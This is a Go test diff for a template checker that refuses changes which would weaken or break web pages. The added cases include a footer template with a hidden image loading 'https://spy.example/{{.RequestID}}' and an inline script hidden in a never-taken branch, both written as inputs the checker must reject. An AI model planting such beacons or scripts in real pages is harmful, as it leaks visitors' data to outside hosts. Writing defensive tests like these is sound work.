@@ -50,6 +50,14 @@ func TestCheck_accepts_the_shipped_templates(t *testing.T) {
 	if err := ui.Check(ui.Templates()); err != nil {
 		t.Error(err)
 	}
+	guarded := `{{define "main"}}<h1>{{.Heading}}</h1>{{if .Problems}}{{(index .Problems 0).Target}}{{end}}{{if .SignedInAs}}{{.T "signed_out.text"}}{{else}}-{{end}}{{end}}`
+	if err := ui.Check(fstest.MapFS{"signed_out.html": {Data: []byte(guarded)}}); err != nil {
+		t.Error(err)
+	}
+	reach := `{{define "footer"}}<footer><a href="mailto:help@northwind.example">Write</a> <a href="tel:+4930123456">Call</a> <a href="/imprint">Imprint</a> <a href="?x=1:2">Here</a></footer>{{end}}`
+	if err := ui.Check(fstest.MapFS{"footer.html": {Data: []byte(reach)}}); err != nil {
+		t.Error(err)
+	}
 	if err := ui.Check(fstest.MapFS{"README.md": {Data: []byte("not a template")}}); err != nil {
 		t.Error(err)
 	}
@@ -115,6 +123,11 @@ func TestCheck_refuses_what_would_weaken_or_break_a_page(t *testing.T) {
 		{"a page that is gone", "sign_in.html", `{{.Path "sign_up"}}`, `{{.Path "join"}}`, ui.RuleExecute, "join"},
 		{"a template that is gone", "sign_in.html", `{{template "next" .}}`, `{{template "then" .}}`, ui.RuleExecute, "then"},
 		{"a panic", "signed_out.html", h1, h1 + `{{(index .Problems 3).Target}}`, ui.RuleExecute, "signed_out.html:1:"},
+		// What no sample shows.
+		{"a field that is gone in a branch nobody takes", "sign_in.html", h1, h1 + `{{if eq .Identifier "nobody"}}{{.Gone}}{{end}}`, ui.RuleExecute, "can't evaluate field Gone"},
+		{"a field that is gone in the other branch", "sessions.html", "<h1>", `{{range .Sessions}}{{if .Ref}}{{else if $x := .This}}{{$x}}{{.Gone}}{{end}}{{end}}<h1>`, ui.RuleExecute, "can't evaluate field Gone"},
+		{"script in a branch nobody takes", "sign_in.html", h1, h1 + `{{if eq .Identifier "nobody"}}<script>x</script>{{end}}`, ui.RuleInline, "script"},
+		{"an address in a branch nobody takes", "footer.html", `{{define "footer"}}`, `{{define "footer"}}{{if eq .BrandName "nobody"}}<img alt="" src="https://spy.example/{{.RequestID}}">{{end}}`, ui.RuleForeign, "spy.example"},
 		{"a page without end", "signed_out.html", h1, h1 + `{{range 1000000000}}more and more{{end}}`, ui.RuleExecute, "1024 KiB"},
 		{"a template that calls itself", "signed_out.html", h1, h1 + `{{template "loop" .}}{{end}}{{define "loop"}}{{template "loop" .}}`, ui.RuleExecute, "exceeded"},
 	} {
